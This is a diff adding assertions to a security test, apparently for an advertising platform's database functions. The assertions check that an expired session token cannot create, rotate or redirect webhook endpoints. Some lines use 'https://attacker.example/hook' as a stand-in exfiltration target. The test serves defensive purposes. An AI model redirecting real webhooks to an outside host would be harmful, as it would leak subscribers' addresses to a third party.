@@ -68,6 +68,16 @@ describe('attack: a token whose session ended calls money and admin functions', 
     expect(await errorOf(advertiser, "select public.open_dispute('They are bots', null, $1)", [m.sourceId])).toBe(ENDED)
     expect(await errorOf(advertiser, 'select * from public.campaign_subscribers($1)', [m.campaignId])).toBe(ENDED)
     expect(await errorOf(advertiser, 'select * from public.campaign_subscribers_export($1)', [m.campaignId])).toBe(ENDED)
+    // Webhook endpoints carry every new subscriber's address: no new one, no new secret, no redirect.
+    const [endpoint] = await queryAs<{ id: string }>(m.advertiser.actor, 'select id from public.create_webhook_endpoint($1)', [
+      'https://hooks.example.com/mine',
+    ])
+    expect(await errorOf(advertiser, 'select * from public.create_webhook_endpoint($1)', ['https://attacker.example/hook'])).toBe(ENDED)
+    expect(await errorOf(advertiser, 'select public.rotate_webhook_secret($1)', [endpoint!.id])).toBe(ENDED)
+    expect(await queryAs(advertiser, `update public.webhook_endpoints set url = 'https://attacker.example/hook' where id = $1 returning id`, [endpoint!.id])).toEqual([])
+    expect(await queryAs(m.advertiser.actor, 'select url from public.webhook_endpoints where id = $1', [endpoint!.id])).toEqual([
+      { url: 'https://hooks.example.com/mine' },
+    ])
     for (const table of ['wallets', 'wallet_balances', 'wallet_transactions', 'deposits']) {
       expect(await queryAs(advertiser, `select 1 from public.${table}`), table).toEqual([])
     }
